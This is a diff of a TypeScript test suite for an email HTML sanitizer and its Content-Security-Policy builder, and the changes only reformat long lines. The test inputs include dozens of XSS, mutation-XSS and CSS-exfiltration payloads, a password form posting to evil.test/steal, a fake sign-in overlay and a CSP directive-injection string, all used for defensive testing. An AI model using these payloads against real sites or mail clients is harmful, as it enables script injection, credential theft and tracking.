@@ -24,14 +24,23 @@ const HOSTILE: Array<[string, string]> = [
   ["img onerror", `<img src=x onerror=alert(1)>`],
   ["body onload", `<body onload=alert(1)><p>x</p></body>`],
   ["svg onload", `<svg onload=alert(1)><circle r=1 /></svg>`],
-  ["svg animate href", `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>`],
+  [
+    "svg animate href",
+    `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>`,
+  ],
   ["svg set", `<svg><set attributeName="onmouseover" to="alert(1)"/></svg>`],
-  ["svg feImage remote", `<svg><filter id=f><feImage href="https://tracker.test/f.png"/></filter><rect filter="url(#f)"/></svg>`],
+  [
+    "svg feImage remote",
+    `<svg><filter id=f><feImage href="https://tracker.test/f.png"/></filter><rect filter="url(#f)"/></svg>`,
+  ],
   ["svg use external", `<svg><use href="https://evil.test/sprite.svg#x"/></svg>`],
   ["math href", `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`],
   ["javascript link", `<a href="javascript:alert(1)">x</a>`],
   ["javascript link upper and spaces", `<a href="  JaVaScRiPt:alert(1)">x</a>`],
-  ["javascript link entity encoded", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`],
+  [
+    "javascript link entity encoded",
+    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
+  ],
   ["javascript link hex entities", `<a href="&#x6A;avascript&#x3A;alert(1)">x</a>`],
   ["javascript link with tab", `<a href="jav&#x09;ascript:alert(1)">x</a>`],
   ["javascript link with newline", `<a href="java\nscript:alert(1)">x</a>`],
@@ -43,8 +52,14 @@ const HOSTILE: Array<[string, string]> = [
   ["area javascript", `<map name=m><area href="javascript:alert(1)" shape=rect coords=0,0,1,1></map>`],
   ["noscript mXSS", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
   ["svg style mXSS", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`],
-  ["math mglyph mXSS", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`],
-  ["math mtext form mXSS", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`],
+  [
+    "math mglyph mXSS",
+    `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
+  ],
+  [
+    "math mtext form mXSS",
+    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
+  ],
   ["template mXSS", `<template><img src=x onerror=alert(1)></template>`],
   ["comment breakout", `<!--<img src=x onerror=alert(1)>--><p>x</p>`],
   ["xmp breakout", `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`],
@@ -57,42 +72,69 @@ const HOSTILE: Array<[string, string]> = [
   ["base href", `<base href="https://evil.test/"><a href="/x">x</a><img src="pixel.gif">`],
   ["link stylesheet", `<link rel=stylesheet href="https://tracker.test/a.css">`],
   ["link prefetch", `<link rel=prefetch href="https://tracker.test/a">`],
-  ["form", `<form action="https://evil.test/steal"><input name=password type=password><button formaction="https://evil.test/">Go</button></form>`],
+  [
+    "form",
+    `<form action="https://evil.test/steal"><input name=password type=password><button formaction="https://evil.test/">Go</button></form>`,
+  ],
   ["textarea select", `<textarea>x</textarea><select><option>1</option></select>`],
   ["input image", `<input type=image src="https://tracker.test/i.png">`],
   ["remote image", `<img src="https://tracker.test/pixel.gif" width=1 height=1>`],
   ["protocol relative image", `<img src="//tracker.test/pixel.gif">`],
   ["relative image", `<img src="/api/session/logout">`],
   ["srcset", `<img srcset="https://tracker.test/a.png 1x, https://tracker.test/b.png 2x">`],
-  ["picture source", `<picture><source srcset="https://tracker.test/a.webp"><img src="data:image/png;base64,iVBORw0KGgo="></picture>`],
-  ["video poster", `<video poster="https://tracker.test/p.png"><source src="https://tracker.test/v.mp4"></video>`],
+  [
+    "picture source",
+    `<picture><source srcset="https://tracker.test/a.webp"><img src="data:image/png;base64,iVBORw0KGgo="></picture>`,
+  ],
+  [
+    "video poster",
+    `<video poster="https://tracker.test/p.png"><source src="https://tracker.test/v.mp4"></video>`,
+  ],
   ["audio", `<audio src="https://tracker.test/a.mp3" autoplay></audio>`],
-  ["background attribute", `<table background="https://tracker.test/bg.png"><tr><td background="//tracker.test/td.png">x</td></tr></table>`],
+  [
+    "background attribute",
+    `<table background="https://tracker.test/bg.png"><tr><td background="//tracker.test/td.png">x</td></tr></table>`,
+  ],
   ["body background", `<body background="https://tracker.test/bg.png">x</body>`],
   ["style url", `<div style="background:url(https://tracker.test/a.png)">x</div>`],
   ["style url quoted", `<div style="background-image: url( 'https://tracker.test/a.png' )">x</div>`],
   ["style url escaped", `<div style="background:u\\72 l(https://tracker.test/a.png)">x</div>`],
   ["style url comment split", `<div style="background:url/**/(https://tracker.test/a.png)">x</div>`],
   ["style image-set", `<div style="background-image:image-set('https://tracker.test/a.png' 1x)">x</div>`],
-  ["style webkit image-set", `<div style="background-image:-webkit-image-set(url(https://tracker.test/a.png) 1x)">x</div>`],
+  [
+    "style webkit image-set",
+    `<div style="background-image:-webkit-image-set(url(https://tracker.test/a.png) 1x)">x</div>`,
+  ],
   ["style var url", `<div style="--u:url(https://tracker.test/a.png);background:var(--u)">x</div>`],
   ["style expression", `<div style="width:expression(alert(1))">x</div>`],
   ["style expression escaped", `<div style="width:ex\\70ression(alert(1))">x</div>`],
   ["style behavior", `<div style="behavior:url(https://evil.test/x.htc)">x</div>`],
   ["style moz-binding", `<div style="-moz-binding:url(https://evil.test/x.xml#x)">x</div>`],
   ["style javascript url", `<div style="background:url(javascript:alert(1))">x</div>`],
-  ["style fixed overlay", `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Session expired, sign in</div>`],
+  [
+    "style fixed overlay",
+    `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Session expired, sign in</div>`,
+  ],
   ["style fixed via var", `<div style="--p:fixed;position:var(--p)">x</div>`],
   ["stylesheet import", `<style>@import url(https://tracker.test/a.css); p{color:red}</style><p>x</p>`],
   ["stylesheet import string", `<style>@import "https://tracker.test/a.css";</style>`],
   ["stylesheet import escaped", `<style>@\\69mport 'https://tracker.test/a.css';</style>`],
-  ["stylesheet font-face", `<style>@font-face{font-family:x;src:url(https://tracker.test/f.woff2) format("woff2")}</style>`],
+  [
+    "stylesheet font-face",
+    `<style>@font-face{font-family:x;src:url(https://tracker.test/f.woff2) format("woff2")}</style>`,
+  ],
   ["stylesheet background", `<style>body{background:url("//tracker.test/bg.png")}</style>`],
-  ["stylesheet attribute selector exfiltration", `<style>a[href^="a"]{background:url(https://tracker.test/?a)}</style>`],
+  [
+    "stylesheet attribute selector exfiltration",
+    `<style>a[href^="a"]{background:url(https://tracker.test/?a)}</style>`,
+  ],
   ["stylesheet closing breakout", `<style>p{color:red}</style ><img src=x onerror=alert(1)>`],
   ["stylesheet text breakout", `<style>p::after{content:"</style><img src=x onerror=alert(1)>"}</style>`],
   ["stylesheet fixed", `<style>.x{position:fixed}</style><div class=x>x</div>`],
-  ["html document", `<html><head><style>p{background:url(https://tracker.test/h.png)}</style><script>alert(1)</script></head><body onload=alert(1)><p>x</p></body></html>`],
+  [
+    "html document",
+    `<html><head><style>p{background:url(https://tracker.test/h.png)}</style><script>alert(1)</script></head><body onload=alert(1)><p>x</p></body></html>`,
+  ],
   ["custom element", `<x-foo onclick=alert(1) is="x">x</x-foo>`],
   ["dom clobbering", `<img name=getElementById><form id=location></form>`],
   ["details ontoggle", `<details open ontoggle=alert(1)><summary>x</summary></details>`],
@@ -121,7 +163,10 @@ describe("sanitizeEmailHtml: hostile input", () => {
 
 describe("sanitizeEmailHtml: remote content", () => {
   it("moves remote images aside and counts them", () => {
-    const result = sanitize(`<p><img src="https://tracker.test/a.png" alt="a"><img src="//tracker.test/b.png"></p>`, { allowRemote: false });
+    const result = sanitize(
+      `<p><img src="https://tracker.test/a.png" alt="a"><img src="//tracker.test/b.png"></p>`,
+      { allowRemote: false },
+    );
     expect(result.hasRemote).toBe(true);
     expect(result.remoteBlocked).toBe(2);
     const images = parse(result.html).querySelectorAll("img");
@@ -147,7 +192,10 @@ describe("sanitizeEmailHtml: remote content", () => {
   });
 
   it("reports no remote content for a self-contained message", () => {
-    const result = sanitize(`<p style="color:red">Zdravo <b>svete</b></p><img src="data:image/png;base64,iVBORw0KGgo=">`, { allowRemote: false });
+    const result = sanitize(
+      `<p style="color:red">Zdravo <b>svete</b></p><img src="data:image/png;base64,iVBORw0KGgo=">`,
+      { allowRemote: false },
+    );
     expect(result).toEqual({
       html: `<p style="color:red">Zdravo <b>svete</b></p><img src="data:image/png;base64,iVBORw0KGgo=">`,
       remoteBlocked: 0,
@@ -168,7 +216,10 @@ describe("sanitizeEmailHtml: remote content", () => {
   });
 
   it("refuses a resolver that returns a script URL", () => {
-    const result = sanitize(`<img src="cid:x">`, { allowRemote: false, resolveCid: () => "javascript:alert(1)" });
+    const result = sanitize(`<img src="cid:x">`, {
+      allowRemote: false,
+      resolveCid: () => "javascript:alert(1)",
+    });
     expect(result.html).toBe("<img>");
   });
 });
@@ -183,7 +234,10 @@ describe("sanitizeEmailHtml: what newsletters need survives", () => {
   });
 
   it("opens links in a new tab without opener or referrer", () => {
-    const out = sanitize(`<a href="https://example.test/a">a</a><a href="mailto:x@example.test">m</a><a href="#top">t</a>`, { allowRemote: false }).html;
+    const out = sanitize(
+      `<a href="https://example.test/a">a</a><a href="mailto:x@example.test">m</a><a href="#top">t</a>`,
+      { allowRemote: false },
+    ).html;
     expect(out).toBe(
       `<a href="https://example.test/a" target="_blank" rel="noopener noreferrer">a</a>` +
         `<a href="mailto:x@example.test" target="_blank" rel="noopener noreferrer">m</a><a href="#top">t</a>`,
@@ -208,13 +262,19 @@ describe("buildMessageDocument", () => {
     expect(csp).not.toMatch(/https?:/);
     expect(messageCsp({ allowRemote: true })).toContain("img-src data: cid: https: http:");
     const parsed = new JSDOM(doc).window.document;
-    expect(parsed.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content")).toBe(csp);
+    expect(parsed.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content")).toBe(
+      csp,
+    );
     expect(parsed.body.innerHTML).toBe("<p>x</p>");
   });
 
   it("rejects image sources that would inject directives", () => {
-    expect(() => messageCsp({ allowRemote: false, imageSources: ["https://a.test; script-src *"] })).toThrow();
-    expect(messageCsp({ allowRemote: false, imageSources: ["https://mail.example.org"] })).toContain("img-src data: cid: https://mail.example.org;");
+    expect(() =>
+      messageCsp({ allowRemote: false, imageSources: ["https://a.test; script-src *"] }),
+    ).toThrow();
+    expect(messageCsp({ allowRemote: false, imageSources: ["https://mail.example.org"] })).toContain(
+      "img-src data: cid: https://mail.example.org;",
+    );
   });
 
   it("exports a sandbox without scripts or same-origin", () => {
